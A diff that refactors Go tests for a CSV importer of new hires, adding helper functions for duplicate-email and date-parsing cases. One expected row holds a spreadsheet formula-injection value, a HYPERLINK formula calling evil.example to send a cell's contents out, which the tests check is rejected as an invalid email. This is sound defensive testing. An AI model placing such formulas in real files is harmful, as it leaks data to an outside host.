@@ -75,7 +75,48 @@ func notDayFirst(v string) string {
 	return fmt.Sprintf("join_date: %q is not a date read day first, as UK and European Excel write dates (25/12/2026); if the file's dates are month first (12/25/2026), set onboarding.date_layout: 01/02/2006", v)
 }
 
+// ada is the hire of the row "Ada,Lovelace,ada@example.com,2025-01-06" on line.
+func ada(line int) onboard.Hire {
+	return onboard.Hire{Line: line, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}
+}
+
+// usedAgain is the problem of the row on line whose email was first on line first: skipped as a
+// repeat.
+func usedAgain(line int, email string, first int) onboard.RowProblem {
+	return onboard.RowProblem{Line: line, Email: email, Reason: fmt.Sprintf("email: used again (first on line %d)", first), Duplicate: true}
+}
+
+// rowsCase is a ReadHires case: rows read under the header First name,Last name,Email,Join date,
+// and the hires and problems wanted.
+type rowsCase struct {
+	name string
+	rows string
+	want []onboard.Hire
+	prob []onboard.RowProblem
+}
+
+// checkRows reads each case's rows, with the default options, and checks what comes back.
+func checkRows(t *testing.T, tests []rowsCase) {
+	t.Helper()
+	const header = "First name,Last name,Email,Join date\n"
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			h, p, err := onboard.ReadHires(strings.NewReader(header+tt.rows), onboard.HireOptions{})
+			checkHires(t, h, p, err, tt.want, tt.prob)
+		})
+	}
+}
+
 func TestReadHiresSamples(t *testing.T) {
+	// What excel-europe.csv holds, read by default or with its layout configured.
+	europeWant := []onboard.Hire{
+		{Line: 2, Employee: emp("Jürgen", "Müller", "juergen.mueller@example.de", "Vertrieb; Innendienst", "2025-04-01")},
+		{Line: 3, Employee: emp("Ana", "García López", "ana.garcia@example.es", "Ingeniera", "2025-04-07")},
+	}
+	europeProb := []onboard.RowProblem{
+		{Line: 4, Email: "lukasz.wisniewski@example.pl", Reason: `join_date: "31.04.2025" is not a calendar date, read day first or month first`},
+		{Line: 5, Email: `'=HYPERLINK("http://evil.example/?d="&A1;"Open")`, Reason: "email: not a valid email address"},
+	}
 	tests := []struct {
 		file string
 		opts onboard.HireOptions
@@ -93,33 +134,21 @@ func TestReadHiresSamples(t *testing.T) {
 			{Line: 9, Employee: emp("Seán", "O'Brien", "sean.obrien@example.com", "", "2025-03-24")},
 		},
 		prob: []onboard.RowProblem{
-			{Line: 6, Email: "amelie.dubois@example.com", Reason: "email: used again (first on line 5)", Duplicate: true},
+			usedAgain(6, "amelie.dubois@example.com", 5),
 			{Line: 7, Email: "priya.natarajan@example.com", Reason: "last_name: missing"},
 			{Line: 8, Email: "bjorn.lindqvist@example", Reason: `email: not a valid email address; join_date: "2025-02-30" is not a calendar date`},
 		},
 	}, {
 		// Excel in a European locale: ';', dates as the locale writes them (day first, dotted).
 		file: "excel-europe.csv",
-		want: []onboard.Hire{
-			{Line: 2, Employee: emp("Jürgen", "Müller", "juergen.mueller@example.de", "Vertrieb; Innendienst", "2025-04-01")},
-			{Line: 3, Employee: emp("Ana", "García López", "ana.garcia@example.es", "Ingeniera", "2025-04-07")},
-		},
-		prob: []onboard.RowProblem{
-			{Line: 4, Email: "lukasz.wisniewski@example.pl", Reason: `join_date: "31.04.2025" is not a calendar date, read day first or month first`},
-			{Line: 5, Email: `'=HYPERLINK("http://evil.example/?d="&A1;"Open")`, Reason: "email: not a valid email address"},
-		},
+		want: europeWant,
+		prob: europeProb,
 	}, {
 		// The same, the layout configured: as the default reads it.
 		file: "excel-europe.csv",
 		opts: onboard.HireOptions{DateLayout: "02.01.2006"},
-		want: []onboard.Hire{
-			{Line: 2, Employee: emp("Jürgen", "Müller", "juergen.mueller@example.de", "Vertrieb; Innendienst", "2025-04-01")},
-			{Line: 3, Employee: emp("Ana", "García López", "ana.garcia@example.es", "Ingeniera", "2025-04-07")},
-		},
-		prob: []onboard.RowProblem{
-			{Line: 4, Email: "lukasz.wisniewski@example.pl", Reason: `join_date: "31.04.2025" is not a calendar date, read day first or month first`},
-			{Line: 5, Email: `'=HYPERLINK("http://evil.example/?d="&A1;"Open")`, Reason: "email: not a valid email address"},
-		},
+		want: europeWant,
+		prob: europeProb,
 	}, {
 		// Google Sheets: LF, no BOM, no line end after the last row, snake_case headers. A file
 		// may be cut short where it has no line end: its last row is never taken.
@@ -196,7 +225,7 @@ func TestReadHiresHeaders(t *testing.T) {
 	}
 	t.Run("no job title column", func(t *testing.T) {
 		h, p, err := onboard.ReadHires(strings.NewReader("First name,Last name,Email,Join date\nAda,Lovelace,ada@example.com,2025-01-06\n"), onboard.HireOptions{})
-		checkHires(t, h, p, err, []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}}, nil)
+		checkHires(t, h, p, err, []onboard.Hire{ada(2)}, nil)
 	})
 	t.Run("full name is not first name", func(t *testing.T) {
 		_, _, err := onboard.ReadHires(strings.NewReader("Name,Email,Join date\nAda Lovelace,ada@example.com,2025-01-06\n"), onboard.HireOptions{})
@@ -326,22 +355,16 @@ func TestReadHiresRowProblems(t *testing.T) {
 }
 
 func TestReadHiresRowShapes(t *testing.T) {
-	const header = "First name,Last name,Email,Join date\n"
-	tests := []struct {
-		name string
-		rows string
-		want []onboard.Hire
-		prob []onboard.RowProblem
-	}{
+	checkRows(t, []rowsCase{
 		{
 			name: "blank cells past the header are ignored",
 			rows: "Ada,Lovelace,ada@example.com,2025-01-06,, ,\n",
-			want: []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
+			want: []onboard.Hire{ada(2)},
 		},
 		{
 			name: "cells are trimmed",
 			rows: "  Ada\u00a0 ,\tLovelace , ada@example.com ,  2025-01-06  \n",
-			want: []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
+			want: []onboard.Hire{ada(2)},
 		},
 		{
 			name: "quoted cells after spaces",
@@ -351,12 +374,12 @@ func TestReadHiresRowShapes(t *testing.T) {
 		{
 			name: "blank rows of every kind are skipped",
 			rows: ",,,\n\n   \n , ,\t, \n\"\",\"\",,\nAda,Lovelace,ada@example.com,2025-01-06\n,,,\n,,,\n",
-			want: []onboard.Hire{{Line: 7, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
+			want: []onboard.Hire{ada(7)},
 		},
 		{
 			name: "a blank row with a quoted line break is still blank",
 			rows: "\"\n\",,,\nAda,Lovelace,ada@example.com,2025-01-06\n",
-			want: []onboard.Hire{{Line: 4, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
+			want: []onboard.Hire{ada(4)},
 		},
 		{
 			name: "a lone CR in a CRLF file is in a cell, not a line end",
@@ -369,13 +392,7 @@ func TestReadHiresRowShapes(t *testing.T) {
 			rows: "Zoe\u0308,O\u0308degard,zoe@example.com,2025-01-06\n",
 			want: []onboard.Hire{{Line: 2, Employee: emp("Zoe\u0308", "O\u0308degard", "zoe@example.com", "", "2025-01-06")}},
 		},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			h, p, err := onboard.ReadHires(strings.NewReader(header+tt.rows), onboard.HireOptions{})
-			checkHires(t, h, p, err, tt.want, tt.prob)
-		})
-	}
+	})
 }
 
 func TestReadHiresLineNumbers(t *testing.T) {
@@ -390,13 +407,13 @@ func TestReadHiresLineNumbers(t *testing.T) {
 	h, p, err := onboard.ReadHires(strings.NewReader(in), onboard.HireOptions{})
 	checkHires(t, h, p, err,
 		[]onboard.Hire{
-			{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")},
+			ada(2),
 			{Line: 10, Employee: emp("Alan", "Turing", "alan@example.com", "", "2025-01-20")},
 			{Line: 12, Employee: emp("Katherine", "Johnson", "KATHERINE@example.com", "", "2025-01-27")},
 		},
 		[]onboard.RowProblem{
 			{Line: 6, Email: "grace", Reason: "email: not a valid email address"},
-			{Line: 13, Email: "katherine@example.com", Reason: "email: used again (first on line 12)", Duplicate: true},
+			usedAgain(13, "katherine@example.com", 12),
 		})
 }
 
@@ -431,49 +448,43 @@ func TestReadHiresLoneCR(t *testing.T) {
 }
 
 func TestReadHiresDuplicates(t *testing.T) {
-	const header = "First name,Last name,Email,Join date\n"
-	tests := []struct {
-		name string
-		rows string
-		want []onboard.Hire
-		prob []onboard.RowProblem
-	}{
+	checkRows(t, []rowsCase{
 		{
 			name: "any case, every repeat names the first",
 			rows: "Ada,Lovelace,ada@example.com,2025-01-06\n" +
 				"Ada,Lovelace,ADA@Example.COM,2025-01-06\n" +
 				"Ada,King,Ada@example.com,2025-02-03\n",
-			want: []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
+			want: []onboard.Hire{ada(2)},
 			prob: []onboard.RowProblem{
-				{Line: 3, Email: "ADA@Example.COM", Reason: "email: used again (first on line 2)", Duplicate: true},
-				{Line: 4, Email: "Ada@example.com", Reason: "email: used again (first on line 2)", Duplicate: true},
+				usedAgain(3, "ADA@Example.COM", 2),
+				usedAgain(4, "Ada@example.com", 2),
 			},
 		},
 		{
 			name: "non-ASCII case",
 			rows: "Élodie,Martin,élodie@exemple.fr,2025-01-06\nÉlodie,Martin,ÉLODIE@EXEMPLE.FR,2025-01-06\n",
 			want: []onboard.Hire{{Line: 2, Employee: emp("Élodie", "Martin", "élodie@exemple.fr", "", "2025-01-06")}},
-			prob: []onboard.RowProblem{{Line: 3, Email: "ÉLODIE@EXEMPLE.FR", Reason: "email: used again (first on line 2)", Duplicate: true}},
+			prob: []onboard.RowProblem{usedAgain(3, "ÉLODIE@EXEMPLE.FR", 2)},
 		},
 		{
 			name: "the first row counts even when it is rejected",
 			rows: "Ada,Lovelace,ada@example.com,01/13/2025\nAda,Lovelace,ada@example.com,2025-01-06\n",
 			prob: []onboard.RowProblem{
 				{Line: 2, Email: "ada@example.com", Reason: notDayFirst("01/13/2025")},
-				{Line: 3, Email: "ada@example.com", Reason: "email: used again (first on line 2)", Duplicate: true},
+				usedAgain(3, "ada@example.com", 2),
 			},
 		},
 		{
 			name: "a repeat is skipped whatever else is wrong with it",
 			rows: "Ada,Lovelace,ada@example.com,2025-01-06\n,,ada@example.com,soon\n",
-			want: []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
-			prob: []onboard.RowProblem{{Line: 3, Email: "ada@example.com", Reason: "email: used again (first on line 2)", Duplicate: true}},
+			want: []onboard.Hire{ada(2)},
+			prob: []onboard.RowProblem{usedAgain(3, "ada@example.com", 2)},
 		},
 		{
 			name: "spaces around the email do not hide a repeat",
 			rows: "Ada,Lovelace,ada@example.com,2025-01-06\nAda,Lovelace,  ada@example.com ,2025-01-06\n",
-			want: []onboard.Hire{{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")}},
-			prob: []onboard.RowProblem{{Line: 3, Email: "ada@example.com", Reason: "email: used again (first on line 2)", Duplicate: true}},
+			want: []onboard.Hire{ada(2)},
+			prob: []onboard.RowProblem{usedAgain(3, "ada@example.com", 2)},
 		},
 		{
 			name: "invalid emails are not repeats but invalid",
@@ -487,17 +498,11 @@ func TestReadHiresDuplicates(t *testing.T) {
 			name: "different emails",
 			rows: "Ada,Lovelace,ada@example.com,2025-01-06\nAda,Lovelace,ada.l@example.com,2025-01-06\n",
 			want: []onboard.Hire{
-				{Line: 2, Employee: emp("Ada", "Lovelace", "ada@example.com", "", "2025-01-06")},
+				ada(2),
 				{Line: 3, Employee: emp("Ada", "Lovelace", "ada.l@example.com", "", "2025-01-06")},
 			},
 		},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			h, p, err := onboard.ReadHires(strings.NewReader(header+tt.rows), onboard.HireOptions{})
-			checkHires(t, h, p, err, tt.want, tt.prob)
-		})
-	}
+	})
 }
 
 func TestReadHiresDateLayout(t *testing.T) {
